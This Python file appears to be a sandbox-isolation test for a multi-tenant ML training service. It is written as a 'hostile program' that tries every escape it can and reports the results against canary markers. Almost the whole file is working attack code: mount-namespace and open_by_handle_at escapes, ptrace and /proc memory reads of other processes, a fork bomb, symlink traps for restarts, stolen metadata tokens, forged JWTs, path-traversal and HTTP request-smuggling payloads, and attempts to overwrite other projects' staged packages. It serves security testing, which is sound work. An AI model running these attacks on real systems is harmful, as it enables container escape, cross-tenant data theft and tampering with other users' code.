"""A hostile program: it tries all attacks, damages nothing but its own files, and reports the results.

It uses only the standard library, because it runs in a replica. The variable TARGET contains its targets as
JSON. It prints `VERDICTS` and a JSON object: for each attempt the data obtained, or "". Destructive attempts
are only proved possible (a file opened for writing but not written, signal 0 to other processes).

It runs twice: the first time it prepares traps for its own restart and kills itself. The file has over 600
lines because it is a single argument of `python3 -c`.
"""

import base64
import contextlib
import ctypes
import http.client
import json
import os
import re
import signal
import socket
import stat
import struct
import subprocess
import sys
import threading
import time
import urllib.parse

TARGET = json.loads(os.environ["TARGET"])
CANARY = re.compile(rb"canary-[0-9a-f]{32}")
"""Marks in private data of other users."""
HOME = os.environ["HOME"]
KEPT = ("hypertune", "tmp")
"""Its directories that the service mounts in other places."""
ENDPOINT = os.environ["GCE_METADATA_HOST"]
MAIN = os.getpid()
NAMESPACED = TARGET["level"] != "session"
HANDLES = [
    f"{name}: {os.readlink('/proc/self/fd/' + name)}"
    for name in os.listdir("/proc/self/fd")
    if int(name) > 2 and os.path.lexists("/proc/self/fd/" + name)
]
"""Open descriptors at its start, except its streams."""
libc = ctypes.CDLL(None, use_errno=True)

NEWNS, NEWUSER = 0x20000, 0x10000000
BIND, REMOUNT, DETACH = 0x1000, 0x20, 2
PTRACE_SEIZE = 0x4206


# --- helpers ---


def decode_text(data):
    return data.decode("utf-8", "replace")


def in_child(attempt, *arguments):
    """Run an attempt that may change or end its process; return the result."""
    reader, writer = os.pipe()
    child = os.fork()
    if child == 0:
        signal.alarm(20)
        with contextlib.suppress(BaseException):
            os.write(writer, str(attempt(*arguments) or "").encode()[:500])
        os._exit(0)
    os.close(writer)
    with open(reader, "rb") as pipe:
        result = decode_text(pipe.read())
    os.waitpid(child, 0)
    return result


def first(attempt, candidates):
    """Return the first successful result of an attempt over candidates."""
    for candidate in candidates:
        with contextlib.suppress(OSError, http.client.HTTPException, ValueError):
            if result := attempt(candidate):
                return f"{candidate}: {result}"
    return ""


def read(path):
    """Return a part of a file or a directory, or "" if it is empty."""
    if os.path.isdir(path):
        return ", ".join(os.listdir(path)[:3])
    if stat.S_ISSOCK(os.stat(path).st_mode):
        with socket.socket(socket.AF_UNIX) as connection:
            connection.connect(path)
        return "connected"
    with open(path, "rb") as file:
        return file.read(64)


def can_write(path):
    os.close(os.open(path, os.O_RDWR))
    return "opened for writing"


def ask(place, verb, path, body=None, token="", headers=()):
    """Return (status, body) of an HTTP request to a host and port."""
    connection = http.client.HTTPConnection(place, timeout=20)
    try:
        sent = {"Host": place, **dict(headers)}
        if token:
            sent["Authorization"] = f"Bearer {token}"
        if isinstance(body, dict):
            body, sent["Content-Type"] = json.dumps(body), "application/json"
        connection.request(verb, path, body, sent)
        answer = connection.getresponse()
        return answer.status, answer.read()
    finally:
        connection.close()


def metadata(place):
    path = "/computeMetadata/v1/instance/service-accounts/default/token"
    status, body = ask(place, "GET", path, headers={"Metadata-Flavor": "Google"})
    return json.loads(body)["access_token"] if status == 200 else ""


def raw(place, *lines):
    """Return a server's response to malformed bytes."""
    host, port = place.split(":")
    with socket.create_connection((host, int(port)), timeout=10) as connection:
        connection.sendall(b"".join(lines))
        connection.settimeout(3)
        data = b""
        with contextlib.suppress(OSError):
            while part := connection.recv(4096):
                data += part
    return data


# --- files ---


def service_files():
    return first(read, TARGET["service_files"])


def others_files():
    return first(read, TARGET["others_files"])


def cache():
    return first(read, TARGET["cache_files"])


def home():
    return first(read, TARGET["home_files"])


def elsewhere():
    return first(read, TARGET["elsewhere_files"])


def traps():
    """Symlink attack: links created before the restart, in place of directories that the service mounts."""
    places = ["/var/hypertune", "/tmp", "/var/tmp", os.environ["TMPDIR"]]
    places += [f"{HOME}/{name}" for name in KEPT]
    databases = [place + "/trainshed.db" for place in places if not os.path.islink(place)]
    return first(read, databases)


def hidden():
    """Return whether any file of the service is visible, by its own path or below another root."""
    roots = [""] + [f"/proc/{pid}/{kind}" for pid in pids() for kind in ("root", "cwd")]
    return first(read, [root + path for root in roots for path in TARGET["service_files"]])


def mounts():
    with open("/proc/self/mountinfo") as file:
        return [line.split()[4] for line in file]


def undo_mounts():
    def below(own_user):
        user, group = os.geteuid(), os.getegid()
        if own_user:
            if libc.unshare(NEWUSER | NEWNS):
                return ""
            for name, text in (
                ("setgroups", "deny"),
                ("uid_map", f"0 {user} 1"),
                ("gid_map", f"0 {group} 1"),
            ):
                with contextlib.suppress(OSError), open("/proc/self/" + name, "w") as file:
                    file.write(text)
        else:
            libc.unshare(NEWNS)
        copy = os.path.join(HOME, "work", "copy")
        os.makedirs(copy, exist_ok=True)
        # A bind without submounts would show covered files, and so would an overlay.
        libc.mount(b"/", copy.encode(), None, BIND, None)
        if result := first(read, [copy + path for path in TARGET["service_files"]]):
            return "a second bind, " + result
        above = os.path.dirname(TARGET["data"])
        os.makedirs(copy + "2", exist_ok=True)
        libc.mount(b"overlay", (copy + "2").encode(), b"overlay", 0, f"lowerdir={above}:{copy}".encode())
        inside = [path.replace(above, copy + "2", 1) for path in TARGET["service_files"]]
        if result := first(read, inside):
            return "an overlay, " + result
        for place in reversed(mounts()):
            libc.umount2(place.encode(), DETACH)
        return hidden()

    def by_handle():
        """Open the root directory of the file system by its number with open_by_handle_at(2)."""
        described = ctypes.create_string_buffer(8 + 8)
        ctypes.memmove(described, (8).to_bytes(4, "little") + (1).to_bytes(4, "little"), 8)
        ctypes.memmove(ctypes.addressof(described) + 8, (2).to_bytes(8, "little"), 8)
        mount = os.open(HOME, os.O_RDONLY)
        root = libc.open_by_handle_at(mount, described, os.O_RDONLY | os.O_DIRECTORY)
        return root >= 0 and os.listdir(root)[:3]

    return (
        hidden()
        or in_child(below, False)
        or in_child(below, True)
        or (NAMESPACED and in_child(by_handle))
        or ""
    )


def disks():
    """Read the disk below the file system, and the kernel's memory."""
    place = os.path.join(HOME, "work", "disk")

    def make():
        os.mknod(place, stat.S_IFBLK | 0o600, os.stat(HOME).st_dev)
        with open(place, "rb") as disk:
            return disk.read(1) and "the disk"

    return in_child(make) or first(read, ["/dev/mem", "/proc/kcore"])


def machine_files():
    return first(can_write, ["/etc/passwd", "/proc/sys/kernel/core_pattern"])


def set_user_bits():
    if not TARGET["set_user_program"]:
        return ""
    done = subprocess.run(TARGET["set_user_program"], capture_output=True, check=False)
    return bool(CANARY.search(done.stdout)) and "read as another user"


def own_limits():
    """Change or leave the replica's own limits."""
    places = []
    with open("/proc/self/cgroup") as file:
        for line in file:
            _, names, path = line.strip().split(":", 2)
            for base in {"/sys/fs/cgroup/" + names, "/sys/fs/cgroup"} if path != "/" else ():
                group = base + path
                places += [
                    group + "/memory.limit_in_bytes",
                    group + "/memory.max",
                    group + "/pids.max",
                    os.path.dirname(group) + "/cgroup.procs",
                    os.path.dirname(group) + "/tasks",
                ]

    def remount_and_write():
        for place in mounts():
            libc.mount(None, place.encode(), None, REMOUNT | BIND, None)
        return first(can_write, places)

    return first(can_write, places) or in_child(remount_and_write)


# --- processes ---


def pids():
    return [int(name) for name in os.listdir("/proc") if name.isdigit()]


def other_processes():
    """Return other visible processes: the shim, the relay, and all others."""
    children = {MAIN}
    for pid in sorted(pids()):
        with contextlib.suppress(OSError), open(f"/proc/{pid}/stat") as file:
            if int(file.read().rpartition(")")[2].split()[1]) in children:
                children.add(pid)
    return [pid for pid in pids() if pid not in children]


def see_processes():
    """Return processes of other jobs and of the service."""
    if NAMESPACED:
        own = {MAIN, 1}
        names = {}
        for pid in set(pids()) - own:
            with contextlib.suppress(OSError), open(f"/proc/{pid}/comm") as file:
                names[pid] = file.read().strip()
        # The replica's own relay does not count.
        return ", ".join(name for name in names.values() if not name.startswith("ts-"))
    return first(lambda pid: read(f"/proc/{pid}/cmdline"), TARGET["others_pids"])


def spy():
    """Read memory, environment and files of other processes."""

    def pry(pid):
        for name in ("environ", "mem", "fd", "root/", "cwd/"):
            path = f"/proc/{pid}/{name}"
            with contextlib.suppress(OSError):
                if name == "mem":
                    os.close(os.open(path, os.O_RDWR))
                elif name == "fd":
                    # Open handles of other processes could be reopened.
                    os.stat(path + "/0")
                elif not read(path):
                    continue
                return name
        if libc.ptrace(PTRACE_SEIZE, pid, None, None) == 0:
            return "traced"
        return ""

    return in_child(lambda: first(pry, other_processes()) or "")


def send_signals():
    if NAMESPACED:
        # Not the first process of the namespace: it would end all others.
        with contextlib.suppress(OSError):
            os.kill(1, signal.SIGKILL)
    known = set(pids()) if NAMESPACED else set()
    targets = [pid for pid in TARGET["others_pids"] if pid not in known]
    return first(lambda pid: os.kill(pid, 0) is None and "signalled", targets)


def fork_bomb():
    made = []
    try:
        while len(made) < TARGET["processes"] + 20:
            child = os.fork()
            if child == 0:
                time.sleep(60)
                os._exit(0)
            made.append(child)
    except OSError:
        return ""
    finally:
        for child in made:
            os.kill(child, signal.SIGKILL)
            os.waitpid(child, 0)
    return f"{len(made)} processes"


# --- the preloader, if it started warm ---


def reach_preloader():
    """Use its sockets and processes, by the machine's process IDs and by visible ones."""
    seen = []
    for pid in set(pids()) - {MAIN}:
        with contextlib.suppress(OSError), open(f"/proc/{pid}/cmdline") as file:
            if "preloader" in file.read() or read(f"/proc/{pid}/comm") == b"ts-preloader\n":
                seen.append(pid)
    if seen:
        return f"processes {seen}"
    strangers = [pid for pid in TARGET["preloaders"] if pid not in pids()]
    return (
        first(read, TARGET["sockets"])
        or first(lambda pid: os.kill(pid, 0) is None and "signalled", strangers)
        or first(lambda pid: os.listdir(f"/proc/{pid}/fd") and "its handles", strangers)
        or first(lambda pid: read(f"/proc/{pid}/environ"), strangers)
        or first(lambda pid: can_write(f"/proc/{pid}/mem"), strangers)
        or in_child(first, lambda pid: not libc.ptrace(PTRACE_SEIZE, pid, None, None) and "traced", strangers)
    )


def inspect_inherited():
    """Find inherited file descriptors, writable shared memory, and other users' secrets in own memory."""
    if HANDLES:
        return f"handles {HANDLES}"
    own = b"canary-" + b"0" * 32  # Report the location of a finding.
    seen = set()
    with open("/proc/self/maps") as file:
        areas = file.read().splitlines()
    memory = os.open("/proc/self/mem", os.O_RDONLY)
    for line in areas:
        place, rights, _, _, inode = line.split()[:5]
        if rights[1] == "w" and rights[3] == "s":
            return "shared memory: " + line
        if rights[0] != "r" or (inode != "0" and rights[1] != "w") or "[v" in line:
            continue
        start, end = (int(number, 16) for number in place.split("-"))
        seen.update(CANARY.findall(os.pread(memory, end - start, start)))
    os.close(memory)
    return "" if seen == {own} else f"memory: {sorted(seen)}"


def change_interpreter():
    path = "/proc/self/exe"
    with contextlib.suppress(OSError):
        os.chmod(path, os.stat(path).st_mode & 0o7777)
        return "its mode"
    # A running file cannot be opened for writing, but the kernel's error shows whether it otherwise could.
    return os.access(path, os.W_OK) and "open to be written to"


# --- storage ---

IDENTITY = json.dumps({"email": "owner@example.com", "reach": {"": 4}})
PROGRAM = {"job_uid": 1, "replica": "workerpool0-0", "service_account": "x"}


def bucket_directory():
    bucket = TARGET["other_bucket"]
    return first(read, ["/gcs/" + bucket, TARGET["data"] + "/buckets/" + bucket])


def own_bucket_directory():
    own = TARGET["own_bucket"]
    places = ("/gcs/" + own, TARGET["data"] + "/buckets/" + own)
    return next((place for place in places if os.path.isdir(place)), "")


def paths_of_others():
    other, own = TARGET["other_bucket"], TARGET["own_bucket"]
    return [
        f"/storage/v1/b/{other}/o/secret?alt=media",
        f"/download/storage/v1/b/{other}/o/secret?alt=media",
        f"/{other}/secret",
        f"/storage/v1/b/{other}/o",
        f"/storage/v1/b/{other}/o/secret?alt=media&project={TARGET['other_project']}&userProject={TARGET['other_project']}",
        f"/storage/v1/b/{own}/o/..%2F{other}%2Fsecret?alt=media",
        f"/storage/v1/b/{own}%2F..%2F{other}/o/secret?alt=media",
        f"/storage/v1/b/../b/{other}/o/secret?alt=media",
        f"//storage/v1/b/{other}/o/secret?alt=media",
        f"/with/{'A' * 43}/storage/v1/b/{other}/o/secret?alt=media",
    ]


def batch(place, token):
    other = TARGET["other_bucket"]
    body = (
        "--x\r\nContent-Type: application/http\r\nContent-ID: <1>\r\n\r\n"
        f"GET /storage/v1/b/{other}/o HTTP/1.1\r\nX-Trainshed-Identity: {IDENTITY}\r\n\r\n\r\n--x--\r\n"
    )
    kind = {"Content-Type": "multipart/mixed; boundary=x"}
    _, result = ask(place, "POST", "/batch/storage/v1", body, token, kind)
    return b'"secret"' in result and "a batch"


def change_staged_code():
    """Replace or delete staged code of other projects, or create the bucket that they will get."""
    token, own = metadata(ENDPOINT), TARGET["own_bucket"]
    wheel = TARGET["staged"]
    name = wheel.replace("/", "%2F")
    for bucket in TARGET["staging"]:
        path = f"/storage/v1/b/{bucket}/o/{name}"
        pieces = {"sourceObjects": [{"name": wheel}, {"name": wheel}]}
        writes = [
            ("POST", f"/upload/storage/v1/b/{bucket}/o?uploadType=media&name={name}", b"mine"),
            ("POST", f"/upload/storage/v1/b/{bucket}/o?uploadType=resumable&name={name}", {}),
            ("POST", f"/storage/v1/b/{own}/o/mine/rewriteTo/b/{bucket}/o/{name}", {}),
            ("POST", f"{path}/compose", pieces),
            ("POST", f"{path}/moveTo/o/elsewhere", {}),
            ("PUT", f"/{bucket}/{name}", b"mine"),
            ("DELETE", path, None),
            ("DELETE", f"/{bucket}/{name}", None),
            ("DELETE", f"/storage/v1/b/{bucket}", None),
            ("PATCH", path, {"metadata": {"mine": "1"}}),
            ("PUT", f"/storage/v1/b/{bucket}/iam", {"bindings": []}),
            ("POST", f"/storage/v1/b?project={TARGET['own_project']}", {"name": bucket}),
        ]
        for verb, path, body in writes:
            for place, known in ((ENDPOINT, ""), (TARGET["storage_port"], token)):
                with contextlib.suppress(http.client.HTTPException):
                    status, _ = ask(place, verb, path, body, known)
                    if status < 400:
                        return f"{verb} {path}"
        with contextlib.suppress(OSError):
            with open(f"/gcs/{bucket}/{wheel}", "w") as file:
                file.write("mine")
            return f"/gcs/{bucket}"
    return ""


def steal(place, token):
    """Read or change the other bucket by requests to a server."""
    for headers in ({}, {"X-Trainshed-Identity": IDENTITY}):
        for path in paths_of_others():
            with contextlib.suppress(http.client.HTTPException):
                status, body = ask(place, "GET", path, None, token, headers)
                if CANARY.search(body) or (status == 200 and b'"secret"' in body):
                    return path
        other, own = TARGET["other_bucket"], TARGET["own_bucket"]
        writes = [
            ("POST", f"/storage/v1/b/{other}/o/secret/rewriteTo/b/{own}/o/stolen", {}),
            ("POST", f"/storage/v1/b/{other}/o/secret/copyTo/b/{own}/o/stolen", {}),
            ("POST", f"/upload/storage/v1/b/{other}/o?uploadType=media&name=planted", {}),
            ("DELETE", f"/storage/v1/b/{other}/o/nothing", None),
            ("PUT", f"/storage/v1/b/{other}/iam", {"bindings": []}),
            ("PATCH", f"/storage/v1/b/{other}", {"labels": {}}),
        ]
        for verb, path, body in writes:
            status, _ = ask(place, verb, path, body, token, headers)
            if status < 400 or (verb == "DELETE" and status == 404):
                return f"{verb} {path}: {status}"
    return batch(place, token)


def by_own_endpoint():
    own = steal(ENDPOINT, "") or steal(ENDPOINT, metadata(ENDPOINT))
    if own:
        return own
    line = json.dumps({**PROGRAM, "project": TARGET["other_project"]}).encode() + b"\n"
    ask_for = b"GET %s HTTP/1.1\r\nHost: x\r\n\r\n" % paths_of_others()[0].encode()
    return CANARY.search(raw(ENDPOINT, line, ask_for)) and "a preamble"


def by_ports():
    token = metadata(ENDPOINT)
    line = json.dumps({**PROGRAM, "project": TARGET["other_project"]}).encode() + b"\n"
    ask_for = b"GET %s HTTP/1.1\r\nHost: x\r\n\r\n" % paths_of_others()[0].encode()
    for place in (TARGET["storage_port"], TARGET["rest"]):
        if result := steal(place, "") or steal(place, token):
            return f"{place}: {result}"
        if CANARY.search(raw(place, line, ask_for)):
            return f"{place}: a preamble"
        # Request smuggling: two requests where a careless gateway sees one.
        smuggled = (
            b"POST /storage/v1/b HTTP/1.1\r\nHost: x\r\n"
            b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n"
            b"0\r\n\r\n"
            b"GET %s HTTP/1.1\r\nHost: x\r\nX-Trainshed-Identity: %s\r\n\r\n"
        ) % (paths_of_others()[0].encode(), IDENTITY.encode())
        if CANARY.search(raw(place, smuggled)):
            return f"{place}: smuggled"
    return ""


def by_other_endpoint():
    """Confused deputy: the other job's endpoint needs no token and identifies callers by their connection."""
    place = TARGET["other_endpoint"]

    def attempt(path):
        status, body = ask(place, "GET", path)
        return status == 200 and CANARY.search(body) and "read"

    with contextlib.suppress(OSError, http.client.HTTPException):
        if metadata(place):
            return "its token"
    return first(attempt, paths_of_others()[:3])


def by_links():
    """Return files that the service reads for this job, after replacing them with links to
    forbidden files.
    """
    where = own_bucket_directory()
    if not where:
        return ""
    for number, path in enumerate(TARGET["link_targets"]):
        with contextlib.suppress(FileExistsError):
            os.symlink(path, f"{where}/link{number}")
    with contextlib.suppress(FileExistsError):
        os.mkfifo(where + "/fifo")
    with contextlib.suppress(FileExistsError):
        os.symlink(TARGET["data"], where + "/dir")
    own = TARGET["own_bucket"]
    names = [f"link{number}" for number, _ in enumerate(TARGET["link_targets"])]
    names += ["fifo", "dir/access.json", f"dir/buckets/{TARGET['other_bucket']}/secret"]
    for name in names:
        quoted = urllib.parse.quote(name, safe="")
        status, body = ask(ENDPOINT, "GET", f"/storage/v1/b/{own}/o/{quoted}?alt=media")
        if status == 200:
            return name + ": " + decode_text(body[:40])
    status, body = ask(ENDPOINT, "GET", f"/storage/v1/b/{own}/o?prefix=dir/")
    if status == 200 and json.loads(body).get("items"):
        return "a list"
    # The same for writing through a link.
    ask(ENDPOINT, "POST", f"/upload/storage/v1/b/{own}/o?uploadType=media&name=dir%2Fplanted", b"x")
    return TARGET["planted"] and os.path.exists(TARGET["planted"]) and "written"


# --- the network and the API ---


def abstract_sockets():
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect("\0" + TARGET["abstract"])
    return "connected"


def loopback():
    """Connect to servers of this machine, including servers of other jobs."""
    host = TARGET["other_endpoint"].split(":")[0]
    with socket.create_connection((host, TARGET["other_port"]), timeout=10):
        return "connected"


def others_address():
    """Make requests as any host, and DNS rebinding: an address that changes after its check."""
    host = TARGET["other_endpoint"].split(":")[0]
    return first(lambda way: way(host), [bind_plainly, bind_in_a_race])


def bind_plainly(host):
    with socket.socket() as listener:
        listener.bind((host, 0))
    return "bound"


def bind_in_a_race(host):
    addresses = [
        struct.pack("=HH4s8x", socket.AF_INET, 0, socket.inet_aton(ip)) for ip in ("127.0.0.1", host)
    ]
    buffer = ctypes.create_string_buffer(addresses[0], 16)
    is_over = threading.Event()
    sys.setswitchinterval(0.0005)

    def change():
        while not is_over.is_set():
            for address in addresses:
                ctypes.memmove(buffer, address, 16)

    thread = threading.Thread(target=change)
    thread.start()
    try:
        for _ in range(300):
            with socket.socket() as listener:
                libc.bind(listener.fileno(), buffer, 16)
                if listener.getsockname()[0] == host:
                    return "bound in a race"
    finally:
        is_over.set()
        thread.join()
    raise OSError("the race was never won")


def daemons():
    return first(read, ["/run/docker.sock", "/run/podman/podman.sock", "/run/containerd/containerd.sock"])


def api(token):
    """Read or change other jobs through the service's own API."""
    own, other, job = TARGET["own_project"], TARGET["other_project"], TARGET["other_job"]
    mine = TARGET["own_job_parent"] + "/" + os.environ["CLOUD_ML_JOB_ID"]
    region = "locations/us-central1"
    reads = [
        f"/v1/projects/{other}/{region}/customJobs",
        f"/v1/projects/{other}/{region}/customJobs/{job}",
        f"/v1/projects/{own}/{region}/customJobs/{job}",
        f"/v1/projects/{TARGET['other_number']}/{region}/customJobs",
        f"/v1/projects/-/{region}/customJobs",
        f"/v1/projects/{other}/jobs",
        f"/trainshed/v1/jobs/{job}",
        f"/trainshed/v1/jobs/{job}/logs",
        f"/trainshed/v1/jobs/{job}/usage",
        f"/trainshed/v1/jobs/{job}/timeline",
        f"/trainshed/v1/jobs/{job}/watch",
        f"/trainshed/v1/jobs?project={other}",
        "/trainshed/v1/jobs",
        f"/trainshed/v1/secrets?project={own}",
        "/trainshed/v1/nodes",
    ]
    for path in reads:
        status, body = ask(TARGET["rest"], "GET", path, token=token)
        # Without a project, the job's own is used.
        is_own = path == "/trainshed/v1/jobs" and other.encode() not in body
        if status == 200 and not is_own and body.strip() not in (b"", b"{}"):
            return f"{path}: {decode_text(body[:60])}"
    spec = {"displayName": "x", "jobSpec": {"workerPoolSpecs": []}}
    more = {"displayName": "x", "jobSpec": {"serviceAccount": "somebody@else.example"}}
    writes = [
        ("POST", f"/v1/projects/{other}/{region}/customJobs", spec),
        ("POST", f"/v1/projects/{own}/{region}/customJobs", more),
        ("POST", f"/v1/projects/{other}/{region}/customJobs/{job}:cancel", {}),
        ("DELETE", mine, None),
        ("POST", f"/trainshed/v1/jobs/{job}:cancel", {}),
        ("POST", f"/trainshed/v1/jobs/{job}:shell", {}),
        ("POST", f"/trainshed/v1/jobs/{os.environ['CLOUD_ML_JOB_ID']}:shell", {}),
        ("POST", f"/trainshed/v1/jobs/{job}:drill", {"kind": "kill"}),
        ("POST", "/trainshed/v1/secrets", {"name": "x", "value": "y", "project": own}),
        ("POST", "/v2/entries:list", {"resourceNames": [f"projects/{other}"]}),
        ("POST", "/trainshed/v1/nodes/local:drain", {}),
    ]
    for verb, path, body in writes:
        status, answer = ask(TARGET["rest"], verb, path, body, token)
        # An error about the contents comes too late: the caller was authorized.
        if status not in (401, 403, 404, 405):
            return f"{verb} {path}: {status} {decode_text(answer[:200])}"
    return ""


def use_forged_token():
    token = metadata(ENDPOINT)
    head, claims, signature = token.split(".")
    fields = json.loads(base64.urlsafe_b64decode(claims + "=" * (-len(claims) % 4)))
    changed = [TARGET["other_project"] if field == TARGET["own_project"] else field for field in fields]
    other = base64.urlsafe_b64encode(json.dumps(changed).encode()).decode().rstrip("=")
    made = [f"{head}.{other}.{signature}", f"{head}.{other}.", f"{head}.{other}", "tsj1..", "null"]

    def attempt(text):
        path = f"/v1/projects/{TARGET['other_project']}/locations/us-central1/customJobs"
        return ask(TARGET["rest"], "GET", path, token=text)[0] == 200 and "believed"

    return first(attempt, made)


ATTEMPTS = {
    "service files": service_files,
    "files of other jobs": others_files,
    "what other jobs run in": cache,
    "home": home,
    "elsewhere": elsewhere,
    "mounts": undo_mounts,
    "links for a restart": traps,
    "machine": machine_files,
    "disks": disks,
    "set-user bits": set_user_bits,
    "own limits": own_limits,
    "processes": see_processes,
    "spying": spy,
    "signals": send_signals,
    "processes without end": fork_bomb,
    "bucket directory": bucket_directory,
    "bucket, own endpoint": by_own_endpoint,
    "bucket, ports": by_ports,
    "bucket, other endpoint": by_other_endpoint,
    "links in buckets": by_links,
    "staged packages": change_staged_code,
    "API without a token": lambda: api(""),
    "API with its token": lambda: api(metadata(ENDPOINT)),
    "forged tokens": use_forged_token,
    "daemons": daemons,
    "abstract sockets": abstract_sockets,
    "loopback": loopback,
    "addresses": others_address,
}

if "preloaders" in TARGET:
    ATTEMPTS = {
        "what it was forked with": inspect_inherited,
        "preloader": reach_preloader,
        "interpreter": change_interpreter,
        **ATTEMPTS,
    }


def controls():
    """Operations that must succeed, because otherwise the attempts prove nothing."""
    token = metadata(ENDPOINT)
    mine = TARGET["own_job_parent"] + "/" + os.environ["CLOUD_ML_JOB_ID"]
    own = TARGET["own_bucket"]
    return {
        "its own job": ask(TARGET["rest"], "GET", mine, token=token)[0],
        "its own object": ask(ENDPOINT, "GET", f"/storage/v1/b/{own}/o/mine?alt=media")[0],
        "its own object at the port": ask(
            TARGET["storage_port"], "GET", f"/storage/v1/b/{own}/o/mine?alt=media", token=token
        )[0],
    }


def lay_traps():
    """Prepare traps that the service meets when it restarts this program."""
    for name in KEPT:
        place = os.path.join(HOME, name)
        # Its path may be a mount point; then use its name in the parent directory.
        with contextlib.suppress(OSError):
            os.rename(place, place + ".old")
            os.symlink(TARGET["data"], place)
    for number, path in enumerate(TARGET["link_targets"]):
        with contextlib.suppress(OSError):
            os.symlink(path, os.path.join(HOME, "work", f"trap{number}"))
    # A tree too deep for a recursive cleanup.
    here = os.open(os.path.join(HOME, "work"), os.O_RDONLY)
    for _ in range(1100):
        os.mkdir("deep", dir_fd=here)
        inner = os.open("deep", os.O_RDONLY, dir_fd=here)
        os.close(here)
        here = inner
    os.mknod(os.path.join(HOME, "work", "trapped"))
    os.kill(os.getpid(), signal.SIGKILL)


def main():
    if not os.path.exists(os.path.join(HOME, "work", "trapped")):
        lay_traps()
    results, why = {}, {}
    for name, attempt in ATTEMPTS.items():
        begin = time.monotonic()
        try:
            results[name] = str(attempt() or "")
        except (OSError, http.client.HTTPException) as error:
            results[name], why[name] = "", str(error)
        why[name] = f"{why.get(name, '')} {time.monotonic() - begin:.2f}s"
    print("PROCESS", MAIN)
    print("WHY " + json.dumps(why))
    print("CONTROLS " + json.dumps(controls()))
    print("VERDICTS " + json.dumps(results), flush=True)
    # A reader of the notification writes an object.
    while ask(ENDPOINT, "GET", f"/storage/v1/b/{TARGET['own_bucket']}/o/heard")[0] != 200:
        time.sleep(0.1)
    flood()
    sys.exit(3)


def flood():
    """Write a line without an end, and then more than any reader accepts."""
    for block in (b"x" * (1 << 20), b"a line\n" * 100_000):
        for _ in range(TARGET["flood"]):
            os.write(1, block)


main()
